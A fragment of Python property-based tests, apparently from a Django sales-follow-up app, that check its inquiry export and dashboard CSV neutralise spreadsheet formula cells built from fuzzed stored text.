

def assert_no_live_formula(cells):
    for cell in cells:
        if cell.startswith(FORMULA_PREFIXES):
            float(cell)  # only a number (an id, a score) may start with + or -


@settings(FUZZ, max_examples=60)
@given(st.fixed_dictionaries({name: STORED_TEXT for name in EXPORTED}), STORED_TEXT)
def test_the_inquiry_export_neutralises_every_formula_cell(db, fields, company):
    # What fits the columns (PostgreSQL refuses the rest; SQLite would store it).
    fields = {name: value[:Inquiry._meta.get_field(name).max_length]
              for name, value in fields.items()}
    company = company[:Company._meta.get_field("name").max_length]
    with rolled_back():
        InquiryFactory(company=CompanyFactory(name=company), **fields)
        stream = io.StringIO()
        export_inquiries(stream, fmt="csv")
        [row] = list(csv.DictReader(io.StringIO(stream.getvalue())))
        for name, value in {**fields, "company": company}.items():
            assert row[name] == inert(value), name
        assert_no_live_formula(row.values())


@settings(FUZZ, max_examples=25)
@given(STORED_TEXT)
def test_the_dashboard_csv_neutralises_every_formula_cell(client, manager, rep, name):
    name = name[:Company._meta.get_field("name").max_length]
    now = timezone.now()
    with rolled_back():
        CompanyFactory(name=name, owner=rep, country="DE", time_zone="Europe/Berlin",
                       last_contact_at=now - timedelta(days=8))
        client.force_login(manager)
        response = client.get(reverse("followup:dashboard"), {
            "start": f"{now - timedelta(days=30):%Y-%m-%d}", "end": f"{now:%Y-%m-%d}",
            "days": "0", "csv": "silent"})
        header, row = list(csv.reader(io.StringIO(response.content.decode())))
        assert header[0] == "Company" and row[0] == inert(name)
        assert_no_live_formula(row)
